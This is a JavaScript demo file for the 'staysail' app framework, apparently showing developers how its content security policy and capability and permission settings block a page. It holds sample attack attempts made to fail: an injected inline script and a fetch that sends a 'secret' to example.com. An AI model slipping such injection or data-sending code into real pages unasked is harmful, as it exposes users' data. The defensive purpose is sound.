// What a page can not do. Each button tries, and shows what stops it.
import { application } from "/__staysail/api.js";

// #region denied
const exit = () => application.exit(); // this window's capabilities do not name app.exit
// #endregion

// #region policy
function refused(attempt) {
  return new Promise((resolve) => {
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(`Blocked by ${effectiveDirective}`), { once: true });
    attempt();
  });
}

const runInjected = () =>
  refused(() => {
    const script = document.createElement("script");
    script.textContent = "document.title = 'Taken over'";
    document.head.append(script);
  });

const sendAway = () => refused(() => void fetch("https://example.com/?secret").catch(() => {}));
// #endregion

// #region permission
const whereAmI = () =>
  new Promise((resolve, reject) =>
    navigator.geolocation.getCurrentPosition(
      ({ coords }) => resolve(`${coords.latitude}, ${coords.longitude}`),
      ({ message }) => reject(new Error(`Denied: ${message}`)),
    ),
  );
// #endregion

export default {
  id: "safety",
  title: "What a page may not do",
  about: "Assume that a script you did not write runs in your page one day. This is what stands in its way.",
  demos: [
    {
      id: "denied",
      title: "Features nobody allowed",
      about: "A page uses what staysail.toml names for its window, in development as in production. The error says what to add.",
      actions: [{ id: "exit", label: "End the app", run: exit }],
    },
    {
      id: "policy",
      title: "Injected scripts, and other hosts",
      about: "The content security policy is made from your own files: their scripts run, nothing else does.",
      actions: [
        { id: "inject", label: "Inject a script", run: runInjected },
        { id: "send", label: "Send something away", run: sendAway },
      ],
    },
    {
      id: "permission",
      title: "Place, camera, microphone",
      about: "Asked for by the page, answered by staysail.toml: permissions = [\"geolocation\"] would allow this one.",
      actions: [{ id: "where", label: "Where am I?", run: whereAmI }],
    },
  ],
};
